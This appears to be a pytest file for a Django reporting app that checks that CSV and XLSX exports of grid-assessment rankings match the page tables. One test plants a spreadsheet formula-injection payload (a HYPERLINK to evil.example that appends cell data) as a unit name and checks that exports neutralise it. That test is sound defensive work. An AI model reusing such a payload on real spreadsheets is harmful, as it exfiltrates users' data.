"""Exports contain exactly what the page shows: the CSV's cells are the page's cells, the
XLSX has the same rows (codes as text, figures as numbers)."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from tests.reports.conftest import page_tables

pytestmark = pytest.mark.django_db


def _download(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_and_xlsx_equal_the_page_table(city, scored, login):
    client = login(city.users.supervisor)
    url = "/reports/?period=2026-10&level=grid&sort=-composite"
    page = page_tables(client.get(url).content.decode())["units-grid"]

    raw = _download(client.get(url + "&export=csv"))
    assert raw.startswith("\ufeff".encode())  # BOM: Excel opens it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows == page

    response = client.get(url + "&export=xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(_download(response)), read_only=True).active
    width = len(page[0])  # read-only mode drops a row's trailing empty cells
    cells = [list(r) + [None] * (width - len(r)) for r in sheet.iter_rows(values_only=True)]
    # Issue 19: a title row first — the unit, the period, the table, 数据截至 — then the page's table.
    assert cells[0][0] == "全市 · 2026年10月 · 网格考核排名 · 数据截至 2026-11-05 00:00"
    cells = cells[1:]
    assert cells[0] == page[0]
    code_column = page[0].index("编码")
    for xlsx_row, page_row in zip(cells[1:], page[1:], strict=True):
        assert xlsx_row[code_column] == page_row[code_column]  # a 15-digit code, as text
        for value, text in zip(xlsx_row, page_row, strict=True):
            if isinstance(value, int | float):
                assert float(text) == pytest.approx(value)
            else:
                assert (value or "—") == text


def test_xlsx_names_parents_ranks_by_peer_group_and_fits_its_columns(city, scored, login):
    client = login(city.users.supervisor)
    response = client.get("/reports/?period=2026-10&level=grid&export=xlsx")
    sheet = load_workbook(io.BytesIO(_download(response))).active
    header = [c.value for c in sheet[2]]
    assert header[:7] == ["排名", "参与排名数", "名次变化", "单位", "编码", "街道", "社区"]
    rows = {r[3]: r for r in sheet.iter_rows(min_row=3, values_only=True) if r[6] == "甲一社区"}
    assert set(rows) == {"第一网格", "第二网格"} and rows["第一网格"][5] == "甲街道"
    # Ranked within the community (formulas.peer_group): "社区内 rank/peers".
    ranks = [rows[g][0] for g in rows if rows[g][0] != "—"]
    assert ranks and all(re.fullmatch(r"社区内 [12]/[12]", r) for r in ranks), ranks
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDEFG"}
    assert widths["D"] >= 10 and widths["E"] >= 17 and widths["F"] >= 8, widths  # 第一网格, a 15-digit code, 甲街道
    assert sheet.freeze_panes == "A3"


def test_unit_page_tables_export_too(city, scored, login):
    client = login(city.users.street_officer)
    url = "/reports/unit/street/110101001/?period=2026-10"
    tables = page_tables(client.get(url).content.decode())
    for key, which in (("units-community", "children"), ("problems", "problems"), ("categories", "categories")):
        raw = _download(client.get(f"{url}&table={which}&export=csv"))
        assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == tables[key]
    assert client.get(f"{url}&table=secrets&export=csv").status_code == 404
    assert client.get(f"{url}&export=pdf").status_code == 400


def test_no_export_carries_a_formula(city, scored, login):
    """A unit named like a formula: the CSV cell starts with ', the XLSX cell is a string;
    the figures beside it are unchanged."""
    from governance.assessment.models import MonthlyScore
    from grids.models import Community

    evil = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'
    Community.objects.filter(pk=city.comm_a.pk).update(name=evil)
    MonthlyScore.objects.filter(unit_code=city.comm_a.code).update(unit_name=evil)  # as the scoring stores it
    client = login(city.users.supervisor)
    url = "/reports/?period=2026-10&level=community&sort=-composite"
    page = page_tables(client.get(url).content.decode())["units-community"]
    raw = _download(client.get(url + "&export=csv"))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    name_column = page[0].index("单位")
    [evil_row] = [r for r in rows if evil in r[name_column]]
    assert evil_row[name_column] == "'" + evil
    [page_row] = [r for r in page if r[name_column] == evil]
    assert [c for i, c in enumerate(evil_row) if i != name_column] == [
        c for i, c in enumerate(page_row) if i != name_column]
    assert "91.33" in evil_row  # the composite of 甲一社区, as the page prints it

    sheet = load_workbook(io.BytesIO(_download(client.get(url + "&export=xlsx")))).active
    [cell] = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cell.data_type == "s"
